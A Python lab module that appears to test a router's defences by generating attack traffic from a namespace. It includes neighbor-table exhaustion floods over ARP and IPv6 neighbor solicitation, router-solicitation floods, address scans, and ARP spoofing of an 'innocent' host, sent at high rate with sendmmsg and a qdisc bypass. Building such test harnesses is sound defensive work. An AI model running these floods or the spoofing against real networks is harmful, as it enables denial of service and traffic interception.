"""Who attacks, as a process of its own, in the namespace that the frames come from.

    python -m l3ctl.lab.besieger NETDEV ATTACK RATE SECONDS ROUTER

Says `ready`, waits for a line, sends, and says how many frames it sent. RATE is frames a second; 0: as many as go, by sendmmsg(2) and past
the queueing discipline.
"""

import ctypes
import random
import socket
import sys
import time
from collections.abc import Callable, Sequence
from ipaddress import IPv4Address, IPv6Address

from l3ctl.lab import frames
from l3ctl.lab.crowd import lladdr_of
from l3ctl.lab.defences import GATEWAY4
from l3ctl.lladdr import parse_lladdr

_DIFFERENT = 8192
"""frames; then they come again: eight times what the table holds"""
_TURN = 0.001
"""seconds in which a turn's frames are sent at once"""
_PACKET, _QDISC_BYPASS = 263, 20
"""setsockopt: SOL_PACKET, PACKET_QDISC_BYPASS"""
_MOST = 20_000_000
"""frames at most, so that it ends by itself"""
INNOCENT = 1
"""the number of the host that is claimed"""
_HOSTS = 42
_ALL, _ROUTERS = bytes.fromhex("333300000001"), bytes.fromhex("333300000002")


def _lladdr(dice: random.Random) -> bytes:
    return b"\x52\x54\xaa" + dice.randbytes(3)


def _link_local(dice: random.Random) -> str:
    return str(IPv6Address(b"\xfe\x80" + bytes(6) + dice.randbytes(8)))


def _scan(dice: random.Random, router: bytes) -> bytes:
    """From outside: to addresses of the hosts' prefixes that nobody has."""
    target = IPv6Address((0x20010DB80000 << 80) + (dice.randrange(2, _HOSTS) << 64) + dice.getrandbits(64))
    echo = frames.icmpv6(128, bytes(4), "2001:db8:ffff::1", str(target))
    return frames.ethernet(frames.ipv6(echo, 58, "2001:db8:ffff::1", str(target), 64), 0x86DD, _lladdr(dice), router)


def _ns(dice: random.Random, _router: bytes) -> bytes:
    """For the gateway, each from another host that does not exist."""
    lladdr = _lladdr(dice)
    packet = frames.ns(frames.GATEWAY6, frames.option(1, lladdr), _link_local(dice))
    return frames.ethernet(packet, 0x86DD, lladdr, bytes.fromhex("3333ff000001"))


def _rs(dice: random.Random, _router: bytes) -> bytes:
    lladdr = _lladdr(dice)
    return frames.ethernet(frames.rs(frames.option(1, lladdr), _link_local(dice)), 0x86DD, lladdr, _ROUTERS)


def _arp_request(dice: random.Random, _router: bytes) -> bytes:
    lladdr = _lladdr(dice)
    sender = str(IPv4Address((10 << 24) + dice.randrange(1 << 10, 60_000)))
    return frames.ethernet(frames.arp(1, lladdr, sender, GATEWAY4), 0x0806, lladdr)


def _arp_claim(dice: random.Random, _router: bytes) -> bytes:
    """The innocent's address is the attacker's, it says, to the router and to everybody."""
    lladdr, innocent = parse_lladdr(lladdr_of(0)), str(IPv4Address((10 << 24) + INNOCENT))
    operation, target = (1, innocent) if dice.random() < 0.5 else (2, GATEWAY4)
    return frames.ethernet(frames.arp(operation, lladdr, innocent, target), 0x0806, lladdr)


ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "scan": _scan,
    "ns": _ns,
    "rs": _rs,
    "arp-request": _arp_request,
    "arp-claim": _arp_claim,
}
"""what makes a frame of each: from dice, and the router's MAC on that netdev"""


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class _Mmsghdr(ctypes.Structure):
    """`struct mmsghdr`."""

    _fields_ = [
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.c_void_p),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint32),
    ]


class _Burst:
    """The frames in a row, to be sent some at a time with one system call."""

    def __init__(self, frames_: Sequence[bytes]) -> None:
        self._kept = [ctypes.create_string_buffer(one, len(one)) for one in frames_]
        self._iovecs = (_Iovec * len(frames_))(*[_Iovec(ctypes.addressof(one), len(one)) for one in self._kept])
        size = ctypes.sizeof(_Iovec)
        begins = ctypes.addressof(self._iovecs)
        self._messages = (_Mmsghdr * len(frames_))(*(_Mmsghdr(iov=begins + size * at, iovlen=1) for at in range(len(frames_))))
        self._sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
        self._at = 0

    def send(self, raw: socket.socket, count: int) -> int:
        """At most so many of those that are next; how many went."""
        count = min(count, len(self._messages) - self._at, 1024)
        sent = int(self._sendmmsg(raw.fileno(), ctypes.byref(self._messages[self._at]), count, 0))
        self._at = (self._at + max(sent, 0)) % len(self._messages)
        return max(sent, 0)


def besiege(netdev: str, name: str, rate: int, seconds: float, router: bytes) -> int:
    """Send, once a line has come; the number of frames sent."""
    dice = random.Random(f"{name} {rate}")  # noqa: S311  the same attack every time
    burst = _Burst([ATTACKS[name](dice, router) for _ in range(_DIFFERENT)])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.setsockopt(_PACKET, _QDISC_BYPASS, 1)
        raw.bind((netdev, 0))
        print("ready", flush=True)
        sys.stdin.readline()
        began, sent = time.monotonic(), 0
        while (now := time.monotonic()) < began + seconds and sent < _MOST:
            due = int((now - began + _TURN) * rate) - sent if rate else 1024
            while due > 0 and (went := burst.send(raw, due)):
                sent, due = sent + went, due - went
            if rate:
                time.sleep(_TURN)
    return sent


def main() -> None:
    """As the command line says."""
    netdev, name, rate, seconds, router = sys.argv[1:]
    print(besiege(netdev, name, int(rate), float(seconds), parse_lladdr(router)))


if __name__ == "__main__":
    main()
